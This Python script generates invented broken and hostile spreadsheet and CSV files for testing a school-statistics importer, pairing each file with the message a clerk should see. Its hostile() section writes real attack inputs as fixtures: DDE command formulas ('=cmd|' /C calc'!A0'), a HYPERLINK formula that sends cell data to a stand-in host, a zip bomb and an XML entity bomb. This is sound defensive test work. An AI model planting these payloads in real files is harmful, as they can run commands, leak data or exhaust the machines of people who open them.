"""Files that are broken, hostile or plainly wrong, with what a clerk should be told about each.

Everything is invented. Run it from anywhere:

    python spoiled.py           # needs openpyxl and msoffcrypto-tool

Writes ../spoiled/*, its README.md and expected.toml. One map (spoiled.map.toml) fits them all.
"""
import csv
import datetime
import io
import zipfile

import openpyxl
from msoffcrypto.format.ooxml import OOXMLFile

from common import TESTDATA, save_xlsx, xlsx_bytes

OUT = TESTDATA / "spoiled"
HEADS = ["学校标识码", "学校名称", "乡镇", "办学类型", "举办者类型", "小学在校生数", "初中在校生数", "小学专任教师数", "初中专任教师数",
         "教学及辅助用房面积（平方米）", "室内体育用房面积（平方米）", "运动场地面积（平方米）", "教学仪器设备资产值（元）", "网络多媒体教室间数"]
FIELDS = ["pupils.primary", "pupils.junior", "teachers.primary", "teachers.junior", "teaching_area", "indoor_sports_area",
          "sports_ground_area", "equipment_value", "multimedia_rooms"]
ROWS = [
    ["2145900001", "禾塘县育才小学", "城关镇", "小学", "县级教育部门", 612, None, 36, None, 4200.5, 320, 5600, 1423500, 18],
    ["2145900011", "禾塘县城东小学", "城关镇", "小学", "县级教育部门", 1180, None, 62, None, 6105, 0, 7020, 2688000, 27],
    ["3145900002", "禾塘县城关初级中学", "城关镇", "初级中学", "县级教育部门", None, 880, None, 72, 7200, 900, 9800, 2558000, 26],
    ["2145900012", "禾塘县河口小学", "河口乡", "小学", "县级教育部门", 86, None, 9, None, 880, 0, 1500, 190000, 3],
    ["3145900003", "禾塘县石桥学校", "石桥镇", "九年一贯制学校", "县级教育部门", 540, 360, 28, 22, 5000, 320, 9040, 2246400, 24],
]
SHEET = "学校数据"
COLUMN = {head: "ABCDEFGHIJKLMN"[i] for i, head in enumerate(HEADS)}
FILES = []          # (name, opens, loads, findings, wrong, tell) in order


def told(name, opens, loads, wrong, tell, findings=()):
    """Remember what must happen with a file; findings are (row, column letter or None)."""
    FILES.append((name, opens, loads, list(findings), wrong, tell))
    return OUT / name


def rows():
    return [list(row) for row in ROWS]


def book_of(lines, heads=HEADS):
    book = openpyxl.Workbook()
    book.active.title = SHEET
    book.active.append(heads)
    for line in lines:
        book.active.append(line)
    return book


def put(name, lines, heads=HEADS):
    save_xlsx(book_of(lines, heads), OUT / name)


def column(head):
    return HEADS.index(head)


def wrong_cells():
    lines = rows()
    lines[1][column("教学及辅助用房面积（平方米）")] = "三千"
    lines[3][column("网络多媒体教室间数")] = "若干"
    told("text_in_number.xlsx", True, 5,
         ("数字格里写了文字“三千”“若干”", "words instead of numbers"),
         ("学校数据 第3行 教学及辅助用房面积：写的是“三千”，这里要数字（平方米）。请改为 3000 后重新导入；其余各格已读入，这一格按未填报处理。第5行“若干”同理。",
          "Sheet 学校数据, row 3, teaching area: it says 三千; a number of square metres is wanted. Write 3000 and import again; all other cells were read, this one counts as not reported. Row 5 likewise."),
         [(3, "J"), (5, "N")])
    put("text_in_number.xlsx", lines)

    lines = rows()
    lines[0][column("运动场地面积（平方米）")] = -5600
    lines[4][column("小学专任教师数")] = "-28"
    told("negative_numbers.xlsx", True, 5,
         ("面积和人数是负数", "negative area and count"),
         ("第2行 运动场地面积是 -5600：面积不能是负数，多半是输入时多了一个减号，请核对后改正。这一格按未填报处理。第6行小学专任教师数同理。",
          "Row 2: the sports area is -5600. An area cannot be negative; a minus sign slipped in. Check and correct; the cell counts as not reported. Row 6, teachers, likewise."),
         [(2, "L"), (6, "H")])
    put("negative_numbers.xlsx", lines)

    lines = rows()
    again = list(lines[0])
    again[column("小学在校生数")] = 621
    lines += [again, list(lines[3])]
    told("duplicate_codes.xlsx", True, 5,
         ("同一学校标识码出现两次：一次数字不同，一次完全相同", "a school code twice: once with another figure, once all the same"),
         ("第7行与第2行是同一学校标识码 2145900001，小学在校生数一处 612、一处 621。已采用先出现的第2行，请删去错误的一行。第8行与第5行完全相同，只读入一次。",
          "Rows 2 and 7 carry the same code 2145900001 with 612 and 621 pupils. The first, row 2, was taken; delete the wrong row. Row 8 repeats row 5 exactly and was read once."),
         [(7, "A"), (8, "A")])
    put("duplicate_codes.xlsx", lines)

    lines = rows()
    lines[0][column("小学在校生数")] = 612.5
    lines[1][column("教学仪器设备资产值（元）")] = "99999999999999999999999999999999999999999999"
    lines[2][column("网络多媒体教室间数")] = 1e300
    told("impossible_numbers.xlsx", True, 5,
         ("半个学生、44 位的金额、1E+300 间教室", "half a pupil, an amount of 44 digits, 1E+300 rooms"),
         ("第2行 小学在校生数 612.5：人数要整数。第3行金额有 44 位、第4行教室数 1E+300，都超出可能的范围。请核对原表改正；这三格按未填报处理。",
          "Row 2: 612.5 pupils; a whole number is wanted. Row 3 has an amount of 44 digits and row 4 1E+300 rooms: beyond anything possible. Correct them; the three cells count as not reported."),
         [(2, "F"), (3, "M"), (4, "N")])
    put("impossible_numbers.xlsx", lines)

    book = book_of(rows())
    sheet = book.active
    cell = sheet.cell(2, column("网络多媒体教室间数") + 1, 18)
    cell.number_format = "yyyy-mm-dd"
    sheet.cell(3, column("小学专任教师数") + 1, datetime.date(2026, 6, 2))
    sheet.cell(5, column("小学在校生数") + 1, "8月6日")
    told("dates_in_numbers.xlsx", True, 5,
         ("数字被表格软件变成了日期", "numbers that a spreadsheet program turned into dates"),
         ("第2行 网络多媒体教室间数是日期 1900-01-18，第3行 小学专任教师数是日期 2026-06-02，第5行 小学在校生数是“8月6日”：这里要数字。请把单元格格式改为“常规”，照原表重新输入；不要猜，这三格按未填报处理。",
          "Row 2 (multimedia rooms), row 3 (teachers) and row 5 (pupils) hold dates where numbers are wanted. Set the cells to General and type the numbers again; nothing is guessed, the three cells count as not reported."),
         [(2, "N"), (3, "H"), (5, "F")])
    save_xlsx(book, OUT / "dates_in_numbers.xlsx")

    lines = rows()
    lines[0][column("网络多媒体教室间数")] = "60%"
    lines[2][column("初中专任教师数")] = "８５．５％"
    told("percent_text.xlsx", True, 5,
         ("要个数的格里写了百分数", "percentages where counts are wanted"),
         ("第2行 网络多媒体教室间数写的是“60%”，这里要间数，不是比例。请填实际间数。第4行初中专任教师数同理。这两格按未填报处理。",
          "Row 2 says 60 % multimedia rooms; the number of rooms is wanted, not a share. Row 4, teachers, likewise. Both cells count as not reported."),
         [(2, "N"), (4, "I")])
    put("percent_text.xlsx", lines)

    lines = rows()
    lines[1][column("办学类型")] = "国际学校"
    lines[3][column("举办者类型")] = "村集体"
    told("unknown_choices.xlsx", True, 5,
         ("办学类型、举办者类型不在选项中", "school kind and sponsor that are no option"),
         ("第3行 办学类型“国际学校”不在选项中。请改为：小学、小学教学点、初级中学、九年一贯制学校、完全中学……之一，或请管映射文件的人写明它相当于哪一项。第5行举办者类型“村集体”同理。",
          "Row 3: 国际学校 is no school kind of this form. Choose one of the options, or ask whoever keeps the mapping file to say which option it stands for. Row 5, sponsor 村集体, likewise."),
         [(3, "D"), (5, "E")])
    put("unknown_choices.xlsx", lines)

    lines = rows()
    lines[0][0], lines[1][0], lines[2][0], lines[3][0] = "214590001", "21459000l1", "9945900002", None
    told("bad_codes.xlsx", True, 4,
         ("学校标识码只有 9 位、夹字母、类别码不存在、空缺", "codes of nine digits, with a letter, of no category, missing"),
         ("第2行 学校标识码“214590001”只有 9 位，应为 10 位；第3行“21459000l1”夹有字母 l，应为数字 1；第4行“9945900002”的前两位 99 不是学校类别；第5行没有填，不知是哪所学校，没有读入。其余四行已按所写读入，请照统计报表改正，否则与往年数据对不上。",
          "Row 2: 214590001 has 9 digits, 10 are wanted. Row 3: a letter l stands for a 1. Row 4: 9945900002 begins with 99, which is no category of schools. Row 5 has no code and was not read. The other four rows were read as written; correct them from the statistics, or they will not match other years."),
         [(2, "A"), (3, "A"), (4, "A"), (5, "A")])
    put("bad_codes.xlsx", lines)


def wrong_heads():
    heads = HEADS[1:]
    told("missing_code_head.xlsx", True, 0,
         ("没有“学校标识码”这一列", "no column of school codes"),
         ("学校数据：找不到“学校标识码”一列，无法确定每一行是哪所学校。找到的表头是：学校名称、乡镇、办学类型……请补上这一列（10 位），列名不同的改成这个名称；确实没有标识码的，请管映射文件的人改为按校名读。第2至6行（5 行）都没有读入。",
          "Sheet 学校数据: no column 学校标识码 was found, so no row can be told from another. Heads found: 学校名称, 乡镇, 办学类型 … Add the column (10 digits), or rename yours to that; if there is none, ask whoever keeps the mapping file to read by name. Rows 2–6 (5 rows) were not read."),
         [(1, None)])
    put("missing_code_head.xlsx", [row[1:] for row in rows()], heads)

    heads = HEADS + ["教学及辅助用房面积（平方米）"]
    lines = [row + [row[9] - 100] for row in rows()]
    told("two_columns_of_one_head.xlsx", True, 5,
         ("“教学及辅助用房面积”有两列，数字不同", "two columns of one head with different figures"),
         ("学校数据 第1行：“教学及辅助用房面积”出现在 J 列和 O 列，数字不同，无法确定用哪一列，两列都没有读入。请删去一列，或改名（例如“上年教学及辅助用房面积”）后重新导入。",
          "Sheet 学校数据, row 1: 教学及辅助用房面积 stands in columns J and O with different figures; neither was read. Delete or rename one (last year's, say) and import again."),
         [(1, "J")])
    put("two_columns_of_one_head.xlsx", lines, heads)

    book = book_of(rows()[:3])
    book.active.append(HEADS)
    for row in rows()[3:]:
        book.active.append(row)
    told("head_row_repeated.xlsx", True, 5,
         ("表头在中间又出现一次（分页打印的习惯）", "the head row comes again in the middle, as for printing"),
         ("第5行与表头相同，按重复的表头跳过；五所学校都已读入。",
          "Row 5 repeats the head row and was skipped; all five schools were read."),
         [(5, None)])
    save_xlsx(book, OUT / "head_row_repeated.xlsx")

    heads = [h.replace("运动场地面积（平方米）", "运动场地面积（亩）").replace("教学仪器设备资产值（元）", "教学仪器设备资产值（册）") for h in HEADS]
    lines = rows()
    for row in lines:
        row[column("运动场地面积（平方米）")] = round(row[column("运动场地面积（平方米）")] / 666.67, 2)
    told("units_that_do_not_fit.xlsx", True, 5,
         ("表头单位是“亩”“册”，与要的平方米、元不符", "heads in mu and in books where m² and yuan are wanted"),
         ("L1 表头写的单位是“亩”，运动场地面积要平方米，“亩”不能自动换算，这一列没有读入。请换算成平方米（1 亩约 666.67 平方米）并改表头。M1 的单位“册”不是金额，可能放错了列，这一列也没有读入。请换成资产值（元）的一列，或改正表头。",
          "L1: the head says mu, square metres are wanted; the column was not read. Convert (1 mu is about 666.67 m²) and change the head. M1: 册 is no amount of money, so this may be the wrong column; it was not read either. Put the asset value in yuan there, or correct the head."),
         [(1, "L"), (1, "M")])
    put("units_that_do_not_fit.xlsx", lines, heads)

    book = book_of(rows())
    total = ["合计", None, None, None, None] + [sum(r[i] or 0 for r in ROWS) for i in range(5, 14)]
    total[column("小学在校生数")] += 100
    book.active.append(total)
    told("totals_disagree.xlsx", True, 5,
         ("合计行与各校之和不符", "the totals row is not the sum of the schools"),
         ("第7行合计：小学在校生数写的是 2518，各校相加是 2418，相差 100。请查是否漏了一所学校，或合计没有重算。五所学校都已读入。",
          "Row 7, totals: 2518 primary pupils are written, the schools add up to 2418. See whether a school is missing or the total is old. All five schools were read."),
         [(7, "F")])
    save_xlsx(book, OUT / "totals_disagree.xlsx")

    told("only_heads.xlsx", True, 0,
         ("只有表头，没有一所学校", "heads and no school"),
         ("学校数据：只有第1行表头，没有数据行。请确认是不是导出时筛选掉了全部学校。", "Sheet 学校数据 has a head row and nothing below. Was everything filtered out on export?"),
         [(1, None)])
    put("only_heads.xlsx", [])


def hostile():
    book = book_of(rows())
    sheet = book.active
    for row, text in ((2, "=cmd|' /C calc'!A0"), (3, '=HYPERLINK("http://example.invalid/?x="&A1,"禾塘县城东小学")'), (4, "+1+1|禾塘县城关初级中学"), (5, "@SUM(1,1)禾塘县河口小学")):
        cell = sheet.cell(row, 2, text)
        cell.data_type = "s"                       # text that looks like a formula
    sheet.cell(6, column("教学及辅助用房面积（平方米）") + 1, "#REF!").data_type = "e"
    sheet.cell(6, column("网络多媒体教室间数") + 1, "=SUM(N2:N5)")   # never calculated: no stored result
    told("formula_injection.xlsx", True, 5,
         ("校名是公式样的文字；一格是错误值 #REF!；一格公式没有算出的结果", "names that look like formulas; an error value #REF!; a formula without a stored result"),
         ("第2至5行的学校名称以 =、+、@ 开头，按普通文字读入，没有执行；文件来源可靠的，改回校名，不可靠的，不要打开，请对方重发。第6行教学及辅助用房面积是错误值 #REF!，网络多媒体教室间数是没有结果的公式：请在表格软件中打开、重新计算并保存。",
          "Rows 2–5: names beginning with =, + or @ were read as plain text and not run; put the names right if the source is trusted, else do not open the file and ask for it again. Row 6: #REF! in the teaching area and a formula without a stored result: open, recalculate and save."),
         [(2, "B"), (3, "B"), (4, "B"), (5, "B"), (6, "J"), (6, "N")])
    save_xlsx(book, OUT / "formula_injection.xlsx")

    lines = rows()
    lines[0][1], lines[1][1], lines[2][2] = "=cmd|' /C calc'!A0", '=HYPERLINK("http://example.invalid","x")', "-2+3+cmd|' /C calc'!A0"
    memory = io.StringIO()
    writer = csv.writer(memory, lineterminator="\r\n")
    writer.writerows([HEADS] + lines)
    told("formula_injection.csv", True, 5,
         ("CSV 里公式样的校名和乡镇", "formula-like names and township in a CSV"),
         ("第2、3行学校名称、第4行乡镇以 =、- 开头，按普通文字读入，不会执行；请改回原名。", "Rows 2 and 3 (name) and 4 (township) begin with = or -; read as plain text, never run. Put them right."),
         [(2, "B"), (3, "B"), (4, "C")])
    (OUT / "formula_injection.csv").write_bytes(memory.getvalue().encode("utf-8"))

    data = xlsx_bytes(book_of(rows()))
    parts = zipfile.ZipFile(io.BytesIO(data))

    def rebuild(name, replace):
        with zipfile.ZipFile(OUT / name, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as out:
            for item in parts.infolist():
                info = zipfile.ZipInfo(item.filename, (2026, 9, 20, 0, 0, 0))
                info.compress_type = zipfile.ZIP_DEFLATED
                if item.filename in replace:
                    with out.open(info, "w", force_zip64=False) as stream:
                        for chunk in replace[item.filename](parts.read(item)):
                            stream.write(chunk)
                else:
                    out.writestr(info, parts.read(item))

    def bomb(data):
        head, tail = data.split(b"</sheetData>")
        yield head
        cell = b"<row><c><v>" + b"0" * (1 << 20) + b"</v></c></row>"
        for _ in range(1 << 10):
            yield cell
        yield b"</sheetData>" + tail

    told("zip_bomb.xlsx", False, 0,
         ("压缩包炸弹：文件不到 2 MB，展开有 1 GB", "a zip bomb: under 2 MB, 1 GB when unpacked"),
         ("文件很小，展开后却有约 1 GB，远超一个县的报表，为保护电脑已停止读取。请从原系统重新导出；若确是正常文件，请另存为一份新的 xlsx。",
          "The file is small but unpacks to about 1 GB, far more than a county's tables; reading was stopped to protect the machine. Export it anew, or save it as a fresh xlsx."))
    rebuild("zip_bomb.xlsx", {"xl/worksheets/sheet1.xml": bomb})

    def entities(data):
        names = "abcdefghi"
        dtd = '<!DOCTYPE x [<!ENTITY a "禾塘禾塘禾塘禾塘禾塘">' + "".join(
            f'<!ENTITY {n} "{("&" + p + ";") * 10}">' for p, n in zip(names, names[1:])) + "]>"
        text = data.decode("utf-8").replace("禾塘县育才小学", "&i;", 1)
        split = text.index("?>") + 2 if text.startswith("<?xml") else 0
        yield (text[:split] + dtd + text[split:]).encode("utf-8")

    told("entity_bomb.xlsx", False, 0,
         ("XML 实体炸弹：一个词展开成几 GB", "an XML entity bomb: one word that expands to gigabytes"),
         ("文件里含有表格软件不会写的内容，可能是恶意文件，没有读取。请从原系统重新导出。",
          "The file holds what no spreadsheet program writes and may be malicious; it was not read. Export it anew."))
    rebuild("entity_bomb.xlsx", {"xl/worksheets/sheet1.xml": entities})

    def far_cell(data):
        text = data.decode("utf-8")
        start = text.index("<dimension")
        end = text.index("/>", start) + 2
        text = text[:start] + '<dimension ref="A1:XFD1048576"/>' + text[end:]
        yield text.replace("</sheetData>", '<row r="1048576"><c r="XFD1048576"><v>1</v></c></row></sheetData>').encode("utf-8")

    told("far_cell.xlsx", True, 5,
         ("最右下角（XFD1048576）有一个孤零零的 1", "a lonely 1 in the last cell of the sheet (XFD1048576)"),
         ("五所学校都已读入。第1048576行 XFD 列有一个数字，不在表头范围内，没有读入，请删除。", "All five schools were read. Row 1048576, column XFD holds a figure outside the heads; it was not read. Delete it."),
         [(1048576, "XFD")])
    rebuild("far_cell.xlsx", {"xl/worksheets/sheet1.xml": far_cell})

    told("truncated.xlsx", False, 0,
         ("下载或拷贝中断，只有半个文件", "half a file: a broken download or copy"),
         ("文件不完整（缺少结尾），多半是下载、拷贝或发送时中断。请重新下载或请对方重发。", "The file is cut off, most likely by a broken download or copy. Get it again."))
    (OUT / "truncated.xlsx").write_bytes(data[:len(data) * 3 // 5])

    secret = io.BytesIO()
    office = OOXMLFile(io.BytesIO(data))
    office.encrypt("禾塘2026", secret)
    told("encrypted.xlsx", False, 0,
         ("设了打开密码的工作簿", "a workbook locked with a password"),
         ("工作簿设有打开密码，程序不能读取，也不会尝试密码。请用表格软件打开，取消密码后另存，再导入。", "The workbook is locked with a password; it cannot be read and no password is tried. Open it, take the password off, save and import again."))
    (OUT / "encrypted.xlsx").write_bytes(secret.getvalue())


def wrong_files():
    pdf = (b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n"
           b"3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n")
    told("pdf_renamed.xlsx", False, 0, ("PDF 改了扩展名", "a PDF with another extension"),
         ("这个文件其实是 PDF，不是工作簿，改扩展名没有用。请找到原来的表格文件，或把数字录入模板。", "This is a PDF; changing the extension does not make it a workbook. Find the table it was made from, or type the figures into the template."))
    (OUT / "pdf_renamed.xlsx").write_bytes(pdf)

    told("word_renamed.xlsx", False, 0, ("Word 文档改了扩展名", "a Word document with another extension"),
         ("这个文件其实是 Word 文档（docx）。请把其中的表格复制到工作簿里，另存为 xlsx 再导入。", "This is a Word document. Copy its table into a workbook, save as xlsx and import again."))
    with zipfile.ZipFile(OUT / "word_renamed.xlsx", "w", zipfile.ZIP_DEFLATED) as out:
        for name, text in (
                ("[Content_Types].xml", '<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>'),
                ("_rels/.rels", '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/></Relationships>'),
                ("word/document.xml", '<?xml version="1.0" encoding="UTF-8"?><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>禾塘县学校情况</w:t></w:r></w:p></w:body></w:document>')):
            out.writestr(zipfile.ZipInfo(name, (2026, 9, 20, 0, 0, 0)), text, zipfile.ZIP_DEFLATED)

    told("web_page_as.xls", False, 0, ("网页表格存成了 .xls（不少系统的“导出”就是这样）", "an HTML table called .xls, as many systems export"),
         ("这个文件其实是网页（HTML），只是扩展名叫 xls。请用表格软件打开，另存为 xlsx 后再导入。", "This is a web page (HTML) called xls. Open it in a spreadsheet program, save as xlsx and import again."))
    body = "".join("<tr>" + "".join(f"<td>{'' if v is None else v}</td>" for v in row) + "</tr>" for row in [HEADS] + rows())
    (OUT / "web_page_as.xls").write_text(f'<html><head><meta charset="utf-8"></head><body><table border="1">{body}</table></body></html>', encoding="utf-8")

    told("empty.xlsx", False, 0, ("0 字节的文件", "a file of 0 bytes"), ("文件是空的（0 字节），多半是保存或传送失败。请重新导出。", "The file is empty (0 bytes); saving or sending failed. Export it again."))
    (OUT / "empty.xlsx").write_bytes(b"")
    told("empty.csv", False, 0, ("0 字节的文件", "a file of 0 bytes"), ("文件是空的（0 字节），多半是保存或传送失败。请重新导出。", "The file is empty (0 bytes); saving or sending failed. Export it again."))
    (OUT / "empty.csv").write_bytes(b"")


def wrong_csv():
    def text(lines):
        memory = io.StringIO()
        csv.writer(memory, lineterminator="\r\n").writerows(lines)
        return memory.getvalue()

    lines = [HEADS] + rows()
    raw = text(lines).encode("utf-8").split(b"\r\n")
    raw[2] = b",".join(raw[2].split(b",")[:9])                       # a row cut short
    raw[4] = raw[4] + ",多出来的,两格".encode("utf-8")                  # a row too long
    raw[3] = raw[3].replace("城关镇".encode("utf-8"), b"\xe5\x9f\x8e\xff\xb3\xe9\x95\x87")    # a byte that is no text
    told("ragged_bad_byte.csv", True, 5,
         ("有的行少几格、有的行多几格，一格里有乱码字节", "rows too short and too long, and a byte that is no text"),
         ("第3行只有 9 格，表头有 14 格：缺的 5 格（J至N列）按未填报处理，请查是否漏了逗号。第5行多出 2 格（“多出来的”“两格”），没有读入。第4行乡镇含有不是文字的字节，该格没有读入。五所学校都已读入。",
          "Row 3 has 9 cells of 14: the missing ones (J–N) count as not reported; a comma may be missing. Row 5 has 2 cells too many, which were not read. Row 4: the township holds a byte that is no text and was not read. All five schools were read."),
         [(3, "J"), (4, "C"), (5, None)])
    (OUT / "ragged_bad_byte.csv").write_bytes(b"\r\n".join(raw))

    lines = [HEADS] + rows()
    for line in lines[1:]:
        line[0] = f"{int(line[0]):.2E}"
    told("codes_in_scientific_notation.csv", True, 0,
         ("学校标识码被表格软件变成 2.15E+09", "school codes turned into 2.15E+09 by a spreadsheet program"),
         ("第2至6行 学校标识码是“2.15E+09”这样的科学记数，后几位已经丢失，无法还原，五行都没有读入。请回到原始文件，先把这一列设为“文本”，再另存为 CSV。",
          "Rows 2–6: codes such as 2.15E+09 have lost their last digits for good; none of the five rows was read. Go back to the source, set the column to Text, then save as CSV."),
         [(row, "A") for row in range(2, 7)])
    (OUT / "codes_in_scientific_notation.csv").write_bytes(text(lines).encode("utf-8"))

    told("utf16_tabs.csv", True, 5,
         ("“Unicode 文本”：UTF-16、制表符分隔，却叫 csv", "“Unicode text”: UTF-16 and tabs, called csv"),
         ("文件是 UTF-16、用制表符分隔的“Unicode 文本”，已照此读入五所学校，不必改动。",
          "The file is “Unicode text” in UTF-16 with tabs; the five schools were read so. Nothing needs to be done."))
    tabs = "\r\n".join("\t".join("" if v is None else str(v) for v in row) for row in [HEADS] + rows()) + "\r\n"
    (OUT / "utf16_tabs.csv").write_bytes(b"\xff\xfe" + tabs.encode("utf-16-le"))


def write_map():
    text = '''# One map for every spoiled file: the heads of a plain table, one row a school.

id = "spoiled"
form = "school"
title = { zh = "坏文件的映射", en = "Map of the spoiled files" }
shape = "rows"

[file]
sheets = ["*"]
recognise = ["学校名称", "小学在校生数", "网络多媒体教室间数"]
totals = ["合计"]

[identity]
code = "学校标识码"
name = "学校名称"
township = "乡镇"

[fixed]
county = "禾塘县"
year = 2026

[[column]]
head = "办学类型"
field = "kind"

[[column]]
head = "举办者类型"
field = "sponsor"
'''
    for head, field in zip(HEADS[5:], FIELDS):
        text += f'\n[[column]]\nhead = "{head.split("（")[0]}"\nfield = "{field}"\n'
    (OUT / "spoiled.map.toml").write_text(text, encoding="utf-8")


def write_expected():
    lines = ["# What must happen with each file: whether it opens, how many schools load with the map beside it,",
             "# and the places that findings must name (row and column of the sheet; no column: the whole row).", ""]
    for name, opens, loads, findings, wrong, tell in FILES:
        lines += ["[[file]]", f'name = "{name}"', f"opens = {str(opens).lower()}", f"loads = {loads}"]
        if findings:
            cells = ", ".join("{ row = %d%s }" % (row, f', column = "{letter}"' if letter else "") for row, letter in findings)
            lines.append(f"findings = [{cells}]")
        quote = lambda s: '"' + s.replace("\\", "\\\\").replace('"', '\\"') + '"'
        lines += [f"wrong = {{ zh = {quote(wrong[0])}, en = {quote(wrong[1])} }}", f"tell = {{ zh = {quote(tell[0])}, en = {quote(tell[1])} }}", ""]
    (OUT / "expected.toml").write_text("\n".join(lines), encoding="utf-8")

    page = ["# Spoiled inputs", "",
            "Files that are broken, hostile or plainly wrong, all invented (five schools of 禾塘县, which does not",
            "exist) and made by `testdata/make/spoiled.py`. The map beside them (`spoiled.map.toml`) fits them all;",
            "`expected.toml` says the same as this page for tests. The wording below is what a clerk should be",
            "told, not the exact text of a message. The password of `encrypted.xlsx` is 禾塘2026.", "",
            "| file | what is wrong | schools read | what a clerk should be told |", "|---|---|---|---|"]
    for name, opens, loads, _, wrong, tell in FILES:
        cell = lambda s: s.replace("|", "\\|")
        page.append(f"| `{name}` | {cell(wrong[0])}<br>{cell(wrong[1])} | {loads if opens else 'not opened'} | {cell(tell[0])}<br>{cell(tell[1])} |")
    (OUT / "README.md").write_text("\n".join(page) + "\n", encoding="utf-8")


def main():
    wrong_cells()
    wrong_heads()
    wrong_csv()
    hostile()
    wrong_files()
    write_map()
    write_expected()


if __name__ == "__main__":
    main()
